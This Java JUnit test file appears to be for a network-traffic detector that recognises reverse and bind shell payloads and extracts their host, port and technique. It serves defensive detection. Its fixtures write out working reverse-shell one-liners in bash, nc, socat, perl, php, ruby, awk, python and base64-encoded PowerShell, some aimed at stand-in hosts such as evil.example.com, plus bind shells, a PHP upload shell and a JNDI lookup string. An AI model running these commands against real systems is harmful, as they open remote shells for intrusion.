package org.nta.detect.shell;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ShellPayloadsTest {
    private static ShellPayloads.Payload one(String text) {
        List<ShellPayloads.Payload> ps = ShellPayloads.find(text);
        assertThat(ps).as(text).hasSize(1);
        return ps.get(0);
    }

    @ParameterizedTest
    @CsvSource(delimiterString = " ~ ", value = {
            "bash -c 'bash -i >& /dev/tcp/10.77.3.66/9001 0>&1' ~ bash /dev/tcp ~ 10.77.3.66 ~ 9001",
            "sh -i >& /dev/udp/10.0.0.1/53 0>&1 ~ bash /dev/udp ~ 10.0.0.1 ~ 53",
            "ncat fd77:6b0:1::66 443 -e /bin/sh ~ ncat -e ~ fd77:6b0:1::66 ~ 443",
            "nc -e /bin/bash 192.168.1.9 4444 ~ nc -e ~ 192.168.1.9 ~ 4444",
            "ncat --exec /bin/sh evil.example.com 8443 ~ ncat -e ~ evil.example.com ~ 8443",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f ~ mkfifo + nc ~ 10.0.0.1 ~ 1234",
            "socat tcp-connect:10.1.1.1:5555 exec:'bash -li',pty,stderr ~ socat ~ 10.1.1.1 ~ 5555",
            "perl -e 'use Socket;$i=\"10.0.0.7\";$p=6666;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){exec(\"/bin/sh -i\");};' ~ perl socket ~ 10.0.0.7 ~ 6666",
            "php -r '$sock=fsockopen(\"10.0.0.8\",7777);exec(\"/bin/sh -i <&3 >&3 2>&3\");' ~ php socket ~ 10.0.0.8 ~ 7777",
            "ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.9\",8888).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)' ~ ruby socket ~ 10.0.0.9 ~ 8888",
            "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.2/4242\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' ~ awk /inet ~ 10.0.0.2 ~ 4242",
            "TF=$(mktemp -u);mkfifo $TF && telnet 10.0.0.3 23 0<$TF | /bin/sh 1>$TF ~ telnet pipe ~ 10.0.0.3 ~ 23"})
    void reversePayloads(String text, String kind, String host, int port) {
        ShellPayloads.Payload p = one(text);
        assertThat(p.kind()).isEqualTo(kind);
        assertThat(p.host()).isEqualTo(host);
        assertThat(p.port()).isEqualTo(port);
        assertThat(p.bind()).isFalse();
    }

    @Test
    void pythonReverseShellOfTheReferenceCapture() {
        ShellPayloads.Payload p = one("python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
                + "s.connect((\"10.251.96.4\",4422));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
                + "subprocess.call([\"/bin/sh\",\"-i\"])'");
        assertThat(p.kind()).isEqualTo("python socket");
        assertThat(p.host()).isEqualTo("10.251.96.4");
        assertThat(p.port()).isEqualTo(4422);
        assertThat(p.language()).isEqualTo("python");
        assertThat(p.techniques()).contains("T1059.006");
    }

    @Test
    void powershellTcpClientAlsoInsideEncodedCommand() {
        String ps = "$client = New-Object System.Net.Sockets.TCPClient('10.9.9.9',9999);$stream = $client.GetStream();"
                + "[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = iex $x}";
        assertThat(one(ps).port()).isEqualTo(9999);
        assertThat(one(ps).techniques()).containsExactly("T1059.001");
        String enc = Base64.getEncoder().encodeToString(ps.getBytes(StandardCharsets.UTF_16LE));
        ShellPayloads.Payload p = one("powershell -nop -w hidden -enc " + enc);
        assertThat(p.host()).isEqualTo("10.9.9.9");
        assertThat(p.port()).isEqualTo(9999);
    }

    @Test
    void bindShells() {
        ShellPayloads.Payload nc = one("nc -lvnp 4444 -e /bin/bash");
        assertThat(nc.bind()).isTrue();
        assertThat(nc.port()).isEqualTo(4444);
        assertThat(nc.host()).isNull();
        ShellPayloads.Payload socat = one("socat TCP-LISTEN:5555,reuseaddr,fork EXEC:/bin/sh");
        assertThat(socat.bind()).isTrue();
        assertThat(socat.port()).isEqualTo(5555);
        ShellPayloads.Payload py = one("python -c 'import socket,os,pty;s=socket.socket();s.bind((\"0.0.0.0\",6000));s.listen(1);c,a=s.accept();os.dup2(c.fileno(),0);pty.spawn(\"/bin/sh\")'");
        assertThat(py.bind()).isTrue();
        assertThat(py.port()).isEqualTo(6000);
    }

    @Test
    void uploadedPhpReverseShellWithVariables() {
        String php = "<?php set_time_limit (0); $ip = '10.0.0.50';  // CHANGE THIS\n$port = 1234;\n$shell = 'uname -a; w; id; /bin/sh -i';\n"
                + "$sock = fsockopen($ip, $port, $errno, $errstr, 30);\n$process = proc_open($shell, $descriptorspec, $pipes);";
        ShellPayloads.Payload p = one(php);
        assertThat(p.host()).isEqualTo("10.0.0.50");
        assertThat(p.port()).isEqualTo(1234);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "nc 10.0.0.1 80 < /etc/passwd",                        // file transfer, no shell
            "nc -zv 10.0.0.1 1-1000",                              // port check
            "${jndi:ldap://10.13.37.200:1389/Exploit}",            // JNDI, not a shell
            "the socket library connects to servers",
            "telnet 10.0.0.1 25",                                  // no shell in the pipe
            "python3 -c 'import socket;s=socket.socket();s.connect((\"10.0.0.1\",80));s.send(b\"hi\")'", // no shell
            "bash -i >& /dev/tcp/10.0.0.1/99999 0>&1",             // not a port
            "php -r '$f=fsockopen(\"10.0.0.1\",80); fwrite($f, \"GET /\");'",
            ""})
    void lookAlikesAreNotPayloads(String text) {
        assertThat(ShellPayloads.find(text)).isEmpty();
    }
}
